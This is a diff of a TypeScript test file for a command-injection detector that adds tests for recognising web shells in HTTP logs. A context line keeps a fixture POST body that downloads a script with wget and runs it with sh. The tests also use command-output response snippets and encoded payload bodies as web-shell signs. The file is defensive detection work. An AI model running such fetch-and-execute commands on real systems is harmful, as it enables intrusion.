@@ -1,7 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
 import { describe, expect, test } from 'vitest';
 import { http } from '../../../../test/build/http-rows.ts';
-import { knownEnds } from '../../../../test/build/rows.ts';
+import { knownEnds, type LogRow } from '../../../../test/build/rows.ts';
 import { describeDetector, findingsOf, readFixture } from '../../../../test/contract/detector.ts';
 import { commandInjection } from './command-injection.ts';
 
@@ -83,6 +83,43 @@ describe('an attack by a machine of ours', () => {
       post_body: '{"script":"apt-get update && wget http://203.0.113.9/a.sh -O /tmp/a.sh; sh /tmp/a.sh"}',
     });
     expect(findingsOf(commandInjection, [build]).filter(({ severity }) => severity === 'high')).toEqual([]);
+  });
+});
+
+describe('a web shell', () => {
+  test('shows by answers that are the output of commands', () => {
+    const row = http(0, attacker, victim, '/inc/header.php', { method: 'POST', resp_snippet: 'uid=33(www-data) gid=33(www-data)' });
+    expect(findingsOf(commandInjection, [row])).toMatchObject([{ title: 'Web shell', confidence: 0.97 }]);
+    const page = http(0, attacker, victim, '/wiki.php', { resp_snippet: `<html><body>${'text '.repeat(8)} uid=0(root) gid=0(root)` });
+    expect(findingsOf(commandInjection, [page])).toEqual([]);
+  });
+
+  const posts = (body: (i: number) => string, from = (_i: number): string => attacker): LogRow[] =>
+    Array.from({ length: 8 }, (_, i) =>
+      http(i, from(i), victim, '/inc/header.jsp', { method: 'POST', post_body: body(i), response_body_len: 100 + 30 * i }),
+    );
+  const lump = (i: number): string =>
+    btoa(`${String(i).repeat(7)}Zq9xK2mW7pLs4vB8nR3tY6uJ1hG5fD0cAeXo`)
+      .repeat(2)
+      .replaceAll('=', '');
+
+  test('shows by nothing but encrypted lumps from one client', () => {
+    expect(findingsOf(commandInjection, posts(lump))).toMatchObject([{ title: 'Web shell in use', severity: 'low' }]);
+  });
+
+  test('is not what many clients use, nor a form', () => {
+    expect(
+      findingsOf(
+        commandInjection,
+        posts(lump, (i) => `198.51.100.${i}:4000`),
+      ),
+    ).toEqual([]);
+    expect(
+      findingsOf(
+        commandInjection,
+        posts((i) => `name=Alice&page=${i}&text=hello`),
+      ),
+    ).toEqual([]);
   });
 });
 
